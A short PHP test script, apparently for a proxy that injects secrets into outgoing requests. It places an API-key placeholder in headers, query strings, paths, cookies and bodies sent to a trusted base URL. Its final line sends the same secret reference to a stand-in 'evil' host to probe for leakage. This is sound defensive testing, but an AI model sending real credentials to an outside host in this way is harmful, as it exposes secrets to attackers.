<?php
// PHP's curl.
[, $base, $evil, $address] = $argv;
$ref = '{secrets.crm.apiKey}';

function send(string $url, array $options = []): array
{
    $handle = curl_init($url);
    curl_setopt_array($handle, $options + [CURLOPT_RETURNTRANSFER => true]);
    $body = curl_exec($handle);
    if ($body === false) {
        fwrite(STDERR, curl_error($handle));
        exit(1);
    }
    return [curl_getinfo($handle, CURLINFO_RESPONSE_CODE), $body];
}

function ok(string $url, array $options = []): void
{
    [$status, $body] = send($url, $options);
    if ($status !== 200) {
        fwrite(STDERR, $body);
        exit(1);
    }
}

ok("$base/header", [CURLOPT_HTTPHEADER => ["X-Api-Key: $ref"]]);
ok("$base/bearer", [CURLOPT_HTTPHEADER => ["Authorization: Bearer $ref"]]);
ok("$base/query?" . http_build_query(['k' => $ref]));
ok("$base/path/$ref/x");
ok("$base/basic", [CURLOPT_USERPWD => "me:$ref"]);
ok("$base/cookie", [CURLOPT_COOKIE => "s=$ref"]);
ok("$base/json", [CURLOPT_HTTPHEADER => ['Content-Type: application/json'], CURLOPT_POSTFIELDS => json_encode(['k' => $ref])]);
ok("$base/form", [CURLOPT_POSTFIELDS => http_build_query(['k' => $ref])]);
ok("$base/multipart", [CURLOPT_POSTFIELDS => ['k' => $ref]]);
ok("$address/address", [CURLOPT_HTTPHEADER => ['X-Api-Key: {secrets.open}']]);
echo send("$evil/", [CURLOPT_HTTPHEADER => ["X: $ref"]])[1];
